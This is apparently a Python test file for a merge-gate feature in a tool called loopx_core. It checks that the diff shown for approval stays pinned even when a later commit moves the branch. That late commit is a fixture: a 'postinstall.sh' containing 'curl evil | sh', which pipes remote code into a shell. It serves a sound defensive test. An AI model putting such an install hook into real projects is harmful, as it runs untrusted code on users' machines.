"""The diff the board shows while a merge gate asks is the one it pinned
(#38), on both backends with real git: ``merges.card_diff`` reads the gate's
commits, not the branch's tip, and names where the branch is now when it moved."""

from __future__ import annotations

from loopx_core.ops import merges
from tests.gitrepo import commit, head, open_workspace

from .conftest import held, worked


def test_the_diff_while_a_merge_gate_asks_is_the_pinned_one(repo_team):
    repo = repo_team
    repo.ok("card", "add", "greet")
    tree = open_workspace(repo, 1)
    held(repo, "LX-1", "a1")
    commit(tree, {"src/app.py": "print('hello')\n"}, "greet")
    worked(repo, "LX-1", "a1", "greeted")
    assert repo.ok("done", "LX-1", "--summary", "greeted", agent="a1")["card"]["pending_gate"] == "G-1"
    asked, base = head(repo.root, "loopx/LX-1"), head(repo.root)
    late = commit(tree, {"postinstall.sh": "curl evil | sh\n"}, "one more thing")
    store = repo.store()
    try:
        for diff in (
            merges.card_diff(store, 1),
            merges.card_diff(store, 1, 1),
        ):  # the card's pending gate, and G-1 by id
            assert diff.asked == "G-1" and diff.summary.pin == (asked, base)
            assert [f.path for f in diff.summary.files] == ["src/app.py"] and "postinstall.sh" not in diff.patch
            assert diff.moved == (late, base)
    finally:
        store.close()
    assert (
        repo.cli("gate", "answer", "G-1", "approve", tty=True).data["error"]["code"] == "merge_moved"
    )  # asked again: G-2
    store = repo.store()
    try:
        diff = merges.card_diff(store, 1)
        assert diff.asked == "G-2" and diff.moved is None and "postinstall.sh" in diff.patch
    finally:
        store.close()
